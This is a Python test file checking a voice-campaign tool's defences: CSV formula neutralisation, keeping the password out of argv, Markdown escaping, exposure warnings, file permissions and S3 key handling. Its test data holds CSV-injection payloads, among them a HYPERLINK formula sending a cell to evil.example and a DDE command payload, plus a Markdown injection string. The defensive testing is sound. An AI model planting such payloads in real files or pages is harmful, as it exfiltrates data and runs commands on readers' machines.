"""What we write from hostile data: the deliveries CSV must not run in a spreadsheet, and
the database password must not be in any process's argv."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pandas as pd
import pytest

from voicemill.campaign.records import CampaignRecord, DeliveryRecord
from voicemill.campaign.report import spreadsheet_safe, write_report

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1",
    "\r=1",
]


def _campaign() -> CampaignRecord:
    return CampaignRecord(
        campaign_id="camp-1",
        spec={"campaign_id": "camp-1"},
        spec_sha256="f" * 64,
        recipients_uri="file:///data/recipients.csv",
        recipients_sha256="e" * 64,
        voice_profile="alice",
        use_case="ads",
    )


def test_the_deliveries_csv_neutralizes_formulas(tmp_path: Path) -> None:
    rows = [
        DeliveryRecord(
            trace_id=f"{n:032x}",
            campaign_id="camp-1",
            recipient_id=formula,
            row_number=n + 1,
            template_id=formula,
            status="rejected",
            error_reason="unknown_template",
            error_detail=formula,
        )
        for n, formula in enumerate(FORMULAS)
    ]
    files = write_report(tmp_path, _campaign(), rows)
    with files.csv.open(newline="", encoding="utf-8") as handle:
        table = list(csv.DictReader(handle))
    for row, formula in zip(table, FORMULAS, strict=True):
        for column in ("recipient_id", "template_id", "error_detail"):
            assert row[column] == "'" + formula, (column, row[column])
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r"))
    # The Parquet table keeps the data as it was: it is read by programs, not spreadsheets.
    parquet = pd.read_parquet(files.parquet)
    assert sorted(parquet["recipient_id"]) == sorted(FORMULAS)


def test_spreadsheet_safe_leaves_ordinary_cells_and_numbers() -> None:
    assert spreadsheet_safe("Ann") == "Ann"
    assert spreadsheet_safe("r-001") == "r-001"
    assert spreadsheet_safe(-3.5) == -3.5
    assert spreadsheet_safe(None) is None


def test_the_mlflow_server_gets_its_store_url_by_environment(platform_home: Path) -> None:
    """``ps`` shows every account a process's argv; the store URL carries the password."""
    from mlflow.cli import server

    from voicemill.settings import get_settings
    from voicemill.tracking import store
    from voicemill.tracking.server import server_command, server_environment

    settings = get_settings()
    url = store.tracking_uri(settings)
    argv = server_command(settings=settings)
    assert all(url not in part for part in argv)
    assert "--backend-store-uri" not in argv
    assert server_environment(settings)["MLFLOW_BACKEND_STORE_URI"] == url
    # ... which is where mlflow's own CLI reads --backend-store-uri from.
    (option,) = [p for p in server.params if p.name == "backend_store_uri"]
    assert option.envvar == "MLFLOW_BACKEND_STORE_URI"


def test_user_data_in_markdown_metadata_is_inert() -> None:
    from voicemill.assets.metadata import md_cell, quarantine_table

    hostile = "x|y\n| injected | row |\n[click](http://evil.example) <img src=x onerror=1> `"
    table = quarantine_table({hostile: "not_audio", "good.wav": "too_short"})
    lines = table.splitlines()
    assert len(lines) == 4  # header, rule, two rows: no row injected
    for line in lines[2:]:
        assert len(re.findall(r"(?<!\\)\|", line)) == 3  # two cells: no pipe escaped the cell
    assert "[click](" not in table and " <img" not in table  # escaped: shown as text
    assert "\\[click\\]\\(" in table and "\\<img" in table
    assert md_cell("a" * 500).endswith("…") and len(md_cell("a" * 500)) == 121


@pytest.mark.parametrize(
    ("host", "warned"),
    [("127.0.0.1", False), ("localhost", False), ("::1", False), ("0.0.0.0", True),
     ("::", True), ("10.1.2.3", True), ("devbox.example.com", True)],
)  # fmt: skip
def test_voicemill_dev_warns_before_exposing_the_ui(host: str, warned: bool) -> None:
    from voicemill.cli import exposure_warning

    warning = exposure_warning(host)
    assert (warning is not None) == warned
    if warning:
        assert "no authentication" in warning and host in warning


def test_what_we_write_is_not_world_readable(tmp_path: Path) -> None:
    """Deliveries, reports, recordings and caches hold voices and personal data."""
    import os
    import stat

    import numpy as np

    from voicemill.audio.atomic import write_wav_atomic
    from voicemill.campaign.storage import open_store

    old = os.umask(0o022)  # the usual default: files would come out 0644
    try:
        store = open_store(str(tmp_path / "deliveries"))
        store.put("camp-1/a.wav", b"RIFF audio", "audio/wav")
        files = write_report(tmp_path / "report", _campaign(), [])
        write_wav_atomic(tmp_path / "rec.wav", np.zeros(1600, dtype=np.float32), 16_000)
    finally:
        os.umask(old)
    written = [
        tmp_path / "deliveries" / "camp-1" / "a.wav",
        files.csv,
        files.parquet,
        files.html,
        tmp_path / "rec.wav",
    ]
    for path in written:
        mode = stat.S_IMODE(path.stat().st_mode)
        assert mode & 0o007 == 0, f"{path.name} is {oct(mode)}"


def test_s3_keys_are_config_by_reference_only(monkeypatch: pytest.MonkeyPatch) -> None:
    from voicemill.orchestration.resources import CampaignResource

    monkeypatch.setenv("VOICEMILL_S3_ACCESS_KEY_ID", "AKIAEXAMPLE")
    monkeypatch.setenv("VOICEMILL_S3_SECRET_ACCESS_KEY", "hunter2")
    config = CampaignResource.from_environment()._convert_to_config_dictionary()
    assert config["secret_key"] == {"env": "VOICEMILL_S3_SECRET_ACCESS_KEY"}
    assert config["access_key"] == {"env": "VOICEMILL_S3_ACCESS_KEY_ID"}
    assert "hunter2" not in str(config)
    monkeypatch.delenv("VOICEMILL_S3_SECRET_ACCESS_KEY")
    monkeypatch.delenv("VOICEMILL_S3_ACCESS_KEY_ID")
    assert "secret_key" not in CampaignResource.from_environment()._convert_to_config_dictionary()
